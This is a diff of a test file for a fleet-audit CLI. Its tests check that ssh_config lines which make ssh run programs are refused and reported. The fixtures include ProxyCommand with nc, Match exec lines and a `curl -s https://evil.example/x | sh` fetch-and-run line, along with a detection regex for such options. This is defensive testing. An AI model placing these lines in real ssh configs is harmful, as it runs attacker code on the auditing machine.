@@ -3,13 +3,14 @@
 // and a --repo that must not receive the token. Every case: a message naming the place, the
 // documented exit code, and no stack trace.
 import assert from "node:assert/strict";
-import { link, mkdir, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
+import { access, link, mkdir, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
 import path from "node:path";
 import { after, before, describe, it } from "node:test";
 import { execa } from "execa";
 import { driftSignature } from "../../src/manifest/signature.js";
 import type { Ticket } from "../../src/manifest/tickets.js";
 import { ticketYaml } from "../../src/propose/ticket.js";
+import type { Report } from "../../src/report/schema.js";
 import { runCli, type CliResult } from "../support/cli.js";
 import { startGitServer, type GitServer } from "../support/git-server.js";
 import { scratchTrees } from "../support/tree.js";
@@ -34,6 +35,12 @@ const committed = async (files: Record<string, string>) => {
   await git("commit", "-qm", "base");
   return repo;
 };
+
+const exists = (file: string) =>
+  access(file).then(
+    () => true,
+    () => false,
+  );
 
 const validate = (dir: string) => runCli(["validate", "--manifests", "."], { cwd: dir });
 
@@ -296,6 +303,179 @@ describe("manifest-diff and the pinned host keys", () => {
   });
 });
 
+describe("an ssh_config in the tree that runs a program on the runner", () => {
+  // Lines whose effect ssh itself decides: `ssh -G` says which option it set, and runs Match exec.
+  const LINES = [
+    "Host *\n  ProxyCommand nc %h %p",
+    "Host *\n  proxycommand=nc %h %p",
+    'Host *\n  "ProxyCommand" nc %h %p',
+    "Host *\n  PROXYCOMMAND = nc %h %p",
+    "Host *\n  KnownHostsCommand /bin/echo %H",
+    "Host *\n  LocalCommand id\n  PermitLocalCommand yes",
+    "Host *\n  PKCS11Provider /usr/lib/x.so",
+    "Host *\n  SecurityKeyProvider /usr/lib/x.so",
+    'Match exec "touch MARKER"',
+    'Match=exec "touch MARKER"',
+    'Match host * !exec "touch MARKER"',
+    "Host *\n  ProxyCommand none",
+    "Host *\n  PermitLocalCommand no",
+    "Host exec-01\n  HostName exec.example.net\n  User qm-audit",
+    "# ProxyCommand nc %h %p",
+  ];
+  const COMMAND_OPTION =
+    /^(proxycommand|localcommand|knownhostscommand|pkcs11provider) |^permitlocalcommand yes|^securitykeyprovider (?!internal$)/m;
+
+  it("validate refuses exactly the lines that make ssh run a program (asked of ssh -G), at file:line:col; --allow-exec accepts them", async () => {
+    for (const text of LINES) {
+      const dir = await tree({ "nodes/a.yaml": "{}\n" });
+      const marker = path.join(dir, "ran");
+      const config = `${text.replace("MARKER", marker)}\n`;
+      await writeFile(path.join(dir, "ssh_config"), config);
+      const shown = await execa("ssh", ["-G", "-F", path.join(dir, "ssh_config"), "a"], {
+        reject: false,
+      });
+      assert.equal(shown.exitCode, 0, shown.stderr);
+      const runs = COMMAND_OPTION.test(shown.stdout) || (await exists(marker));
+      await rm(marker, { force: true });
+      const result = await validate(dir);
+      assertNoStack(result);
+      assert.equal(result.exitCode, runs ? 2 : 0, `${text}: ${result.stderr}`);
+      if (runs) {
+        assert.match(
+          result.stderr,
+          /^ssh_config:\d+:\d+: .*(run|runs) a (program|command) on the auditing machine/m,
+        );
+        assert.match(result.stderr, /validate --allow-exec accepts it/);
+        const allowed = await runCli(["validate", "--manifests", ".", "--allow-exec"], {
+          cwd: dir,
+        });
+        assert.equal(allowed.exitCode, 0, allowed.stderr);
+      }
+      assert.equal(await exists(marker), false, "validate itself runs nothing");
+    }
+  });
+
+  it("validate refuses Include: lines it brings in are not in the tree", async () => {
+    const dir = await tree({
+      "nodes/a.yaml": "{}\n",
+      ssh_config: "Host *\n  User qm\nInclude ~/.ssh/extra\n",
+    });
+    const result = await validate(dir);
+    assert.equal(result.exitCode, 2, result.stderr);
+    assert.match(result.stderr, /^ssh_config:3:1: Include brings in ssh_config lines/m);
+  });
+
+  it("manifest-diff shows a change to ssh_config line by line, and says it runs a program", async () => {
+    const repo = await committed({
+      "fleet-manifests/nodes/web-01.yaml": "{}\n",
+      "fleet-manifests/ssh_config": "Host bastion\n  User qm-audit\n",
+    });
+    await writeFile(
+      path.join(repo, "fleet-manifests/ssh_config"),
+      'Host bastion\n  User qm-audit\nMatch exec "curl -s https://evil.example/x | sh"\n',
+    );
+    const result = await runCli(["manifest-diff", "--base", "HEAD"], { cwd: repo });
+    assert.equal(result.exitCode, 0, result.stderr);
+    const out = result.stdout;
+    assert.match(
+      out,
+      /The ssh_config the workflows pass to ssh changes, and runs a program on the runner\./,
+    );
+    assert.match(out, /### ssh_config \(read by ssh on the runner\)/);
+    assert.match(out, /after the change\*\*: `Match` \(line 3\)/);
+    assert.ok(out.includes('\n+Match exec "curl -s https://evil.example/x | sh"\n'), out);
+    assert.equal(out.indexOf("### "), out.indexOf("### ssh_config"), out);
+    assertNoStack(result);
+  });
+});
+
+describe("node names that would mention someone", () => {
+  it("validate refuses a node file named db.@alice, at the file, exit 2", async () => {
+    const dir = await tree({ "nodes/db.@alice.yaml": "{}\n", "nodes/web-01.yaml": "{}\n" });
+    const result = await validate(dir);
+    assert.equal(result.exitCode, 2, result.stderr);
+    assert.match(
+      result.stderr,
+      /^nodes\/db\.@alice\.yaml: node name "db\.@alice" \(from the file name\) must .* or @$/m,
+    );
+    assertNoStack(result);
+  });
+});
+
+describe("a ticket's due as an unquoted YAML 1.1 timestamp", () => {
+  it("is due at its time, not at the end of its day: past it, the local audit's drift is not acknowledged", async () => {
+    const live = (await readFile("/proc/sys/vm/swappiness", "utf8")).trim();
+    const declared = String(Number(live) + 1);
+    const today = new Date().toISOString().slice(0, 10);
+    const ticket = (due: string) =>
+      [
+        "%YAML 1.1",
+        "---",
+        "id: swappiness-1",
+        "status: open",
+        "domain: sysctl",
+        "key: vm.swappiness",
+        `declared: "${declared}"`,
+        `live: "${live}"`,
+        "severity: medium",
+        "nodes: [localhost]",
+        "remediation: Apply the manifest baseline.",
+        'detected: "2026-01-01T00:00:00Z"',
+        `signature: ${driftSignature("sysctl", "vm.swappiness", declared, live)}`,
+        `due: ${due}`,
+        "",
+      ].join("\n");
+    const item = async (due: string) => {
+      const dir = await tree({
+        "nodes/localhost.yaml": `system:\n  sysctl_parameters:\n    vm.swappiness: ${declared}\n`,
+        "remediations/swappiness-1.yaml": ticket(due),
+      });
+      const result = await runCli(["audit", "--local", "--manifests", ".", "--format", "json"], {
+        cwd: dir,
+      });
+      assert.equal(result.exitCode & 2, 0, result.stderr);
+      return (JSON.parse(result.stdout) as Report).nodes[0]!.drift[0]!;
+    };
+    // Earlier today: past due now (cut to its date, it would hold until midnight).
+    const lapsed = await item(`${today}T00:00:01Z`);
+    assert.equal(lapsed.acknowledged, undefined);
+    assert.equal(lapsed.lapsed, `ticket swappiness-1 past due since ${today}T00:00:01.000Z`);
+    // A date alone is due at the end of that day.
+    const held = await item(today);
+    assert.equal(held.lapsed, undefined);
+    assert.ok(held.acknowledged, JSON.stringify(held));
+  });
+});
+
+describe("owners GitHub cannot ask", () => {
+  it("validate refuses a team of another organization than the repository's, at its line, once per line", async () => {
+    const dir = await tree({
+      "groups/web.yaml": 'owners:\n  - alice\n  - "@other-org/platform"\n',
+      "nodes/web-01.yaml": "groups: [web]\n",
+      "nodes/web-02.yaml": "groups: [web]\n",
+      "nodes/db-01.yaml": "owners: [ACME/dba, Acme-Two/x]\n",
+    });
+    const env = { GITHUB_REPOSITORY: "acme/fleet" };
+    const result = await runCli(["validate", "--manifests", "."], { cwd: dir, env });
+    assert.equal(result.exitCode, 2, result.stderr);
+    assertNoStack(result);
+    const lines = result.stderr
+      .split("\n")
+      .filter((l) => l.includes("another organization"))
+      .sort();
+    assert.deepEqual(lines, [
+      'groups/web.yaml:3:5: owner "@other-org/platform" is a team of another organization than acme: GitHub cannot ask it to review (name a user, or a team of this repository\'s organization)',
+      'nodes/db-01.yaml:1:20: owner "Acme-Two/x" is a team of another organization than acme: GitHub cannot ask it to review (name a user, or a team of this repository\'s organization)',
+    ]);
+    // Outside Actions the repository is unknown: nothing to compare with.
+    const local = await runCli(["validate", "--manifests", "."], {
+      cwd: dir,
+      env: { GITHUB_REPOSITORY: "" },
+    });
+    assert.equal(local.exitCode, 0, local.stderr);
+  });
+});
+
 describe("manifest-diff and what is audited or acknowledged", () => {
   const SYSCTL = { domain: "sysctl", key: "vm.swappiness", declared: 10, live: 60 } as const;
   const ticket = (fields: Partial<Ticket> = {}): Ticket => ({
@@ -322,6 +502,37 @@ describe("manifest-diff and what is audited or acknowledged", () => {
     for (const file of removed) await rm(path.join(repo, file), { recursive: true });
     return runCli(["manifest-diff", "--base", "HEAD"], { cwd: repo });
   };
+
+  it("two tickets of one id, or of one file name (a resolve would overwrite one's record), are refused", async () => {
+    const dir = await tree({
+      ...TREE,
+      "remediations/web-01/copy.yaml": ticketYaml(ticket()),
+      "remediations/resolved/sysctl-vm-swappiness-1.yaml": ticketYaml(
+        ticket({ id: "sysctl-vm-swappiness-2", status: "resolved" }),
+      ),
+    });
+    const result = await validate(dir);
+    assert.equal(result.exitCode, 2, result.stderr);
+    assertNoStack(result);
+    const lines = result.stderr.split("\n").filter((l) => l.startsWith("remediations/"));
+    assert.equal(lines.length, 2, result.stderr);
+    assert.ok(
+      lines.some((l) =>
+        /^remediations\/\S+\.yaml: ticket id "sysctl-vm-swappiness-1" is also remediations\/\S+\.yaml's$/.test(
+          l,
+        ),
+      ),
+      result.stderr,
+    );
+    assert.ok(
+      lines.some((l) =>
+        /^remediations\/\S+: ticket file name is also remediations\/\S+'s: resolving one would overwrite the other's record in remediations\/resolved\/$/.test(
+          l,
+        ),
+      ),
+      result.stderr,
+    );
+  });
 
   it("a ticket whose signature alone is rewritten to another drift's is refused, by validate and manifest-diff alike", async () => {
     const listener = driftSignature("ports", "tcp/4444", null, "tcp/4444");
